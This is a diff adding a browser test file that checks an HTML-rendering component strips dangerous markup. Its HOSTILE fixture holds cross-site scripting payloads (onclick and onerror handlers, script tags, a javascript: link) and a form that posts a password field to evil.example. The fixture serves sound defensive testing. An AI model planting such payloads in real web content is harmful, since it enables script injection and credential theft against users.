@@ -1,0 +1,50 @@
+import { beforeAll, expect, it, vi } from 'vitest'
+import { page } from 'vitest/browser'
+import { loadNamespace, startWords } from '../i18n/words.ts'
+import { mount } from '../kit/testing/mount.tsx'
+import { Html } from './Html.tsx'
+
+beforeAll(async () => {
+  await startWords('us')
+  await loadNamespace('articles')
+})
+
+const HOSTILE = `
+  <h2 onclick="window.stolen = true">Terms</h2>
+  <img src="x:" onerror="window.stolen = true">
+  <script>window.stolen = true</script>
+  <style>body { display: none }</style>
+  <p style="position: fixed" class="fixed" id="app">Text</p>
+  <form action="https://evil.example"><input name="password"></form>
+  <iframe src="https://evil.example"></iframe>
+  <a href="javascript:window.stolen = true">trap</a>
+  <a href="https://house.example/fees">fees</a>`
+
+it('draws the text and nothing that could act', async () => {
+  const { container } = await mount(<Html html={HOSTILE} />)
+  await expect.element(page.getByRole('heading', { name: 'Terms' })).toBeVisible()
+  expect(
+    container.querySelectorAll('script, style, form, input, iframe, [onclick], [onerror], [style], [id=app]'),
+  ).toHaveLength(0)
+  expect(page.getByText('Text').element().className).toBe('')
+  page
+    .getByText('trap')
+    .element()
+    .dispatchEvent(new MouseEvent('click', { bubbles: true }))
+  expect((window as { stolen?: boolean }).stolen).toBeUndefined()
+})
+
+it('opens links outside the app, without telling where they came from', async () => {
+  await mount(<Html html={HOSTILE} />)
+  const link = page.getByRole('link', { name: 'fees' })
+  await expect.element(link).toHaveAttribute('target', '_blank')
+  await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer')
+})
+
+it('draws another text when it is given one', async () => {
+  const { rerender } = await mount(<Html html="<p>first</p>" />)
+  await expect.element(page.getByText('first')).toBeVisible()
+  await rerender(<Html html="<p>second</p>" />)
+  await expect.element(page.getByText('second')).toBeVisible()
+  await vi.waitFor(() => expect(page.getByText('first').query()).toBeNull())
+})
